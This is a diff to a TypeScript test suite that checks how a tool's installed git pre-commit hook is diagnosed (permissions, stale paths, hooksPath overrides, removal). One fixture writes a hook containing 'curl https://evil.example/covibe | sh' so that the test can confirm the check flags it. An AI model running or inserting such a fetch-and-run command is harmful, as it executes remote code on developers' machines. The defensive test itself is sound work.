@@ -1,9 +1,11 @@
 import { execFileSync, spawnSync } from 'node:child_process';
-import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { type FakeHost, fakeHost } from '../../../../test/support/companion-host.js';
+import { checkGitHook } from './checks/git-hook-check.js';
 import { installGitHook, removeGitHook } from './git-hook.js';
 import { realPrograms } from './programs.js';
+import { standpointOf } from './standpoint.js';
 
 describe('the backstop before a commit', () => {
   let host: FakeHost;
@@ -68,5 +70,59 @@ describe('the backstop before a commit', () => {
     git('config', 'core.hooksPath', '.husky');
     expect((await install()).obstacle).toMatch(/core\.hooksPath.+covibe-git-hook\.cjs/);
     expect(existsSync(path)).toBe(false);
+  });
+
+  describe('as the doctor finds it', () => {
+    const check = () => checkGitHook(standpointOf(host, {}));
+    const warns = (words: RegExp) =>
+      expect(check()).toMatchObject([
+        {
+          ...{ level: 'warn', text: expect.stringMatching(words) as string },
+          mend: expect.stringContaining('covibe-local setup --git-hook') as string,
+        },
+      ]);
+
+    it('is nobody’s business before somebody asked for it, and in order after that', async () => {
+      expect(check()).toEqual([]);
+      writeFileSync(path, '#!/bin/sh\nnpm test\n');
+      expect(check()).toEqual([]);
+      await install();
+      expect(check()).toEqual([{ level: 'ok', subject: 'git hook', text: path }]);
+    });
+
+    it('may not be started, until setup runs again', async () => {
+      await install();
+      chmodSync(path, 0o644);
+      warns(/may not be started/);
+      await install();
+      expect(check()).toMatchObject([{ level: 'ok' }]);
+    });
+
+    it('is of another installation, or starts what is not there', async () => {
+      await install();
+      host.nodePath = '/elsewhere/node';
+      warns(/not what this installation would write/);
+      await install();
+      rmSync(join(host.packageFolder, 'bin', 'covibe-git-hook.cjs'));
+      warns(/starts a program that/);
+    });
+
+    it('is passed over by git', async () => {
+      await install();
+      git('config', 'core.hooksPath', '.husky');
+      warns(/core\.hooksPath/);
+    });
+
+    it('is gone, and with it the one that was there before', async () => {
+      writeFileSync(path, '#!/bin/sh\n');
+      await install();
+      rmSync(path);
+      warns(/pre-commit\.before-covibe was moved aside/);
+    });
+
+    it('only carries our name', () => {
+      writeFileSync(path, '#!/bin/sh\ncurl https://evil.example/covibe | sh\n');
+      expect(check()).toMatchObject([{ level: 'fail' }]);
+    });
   });
 });
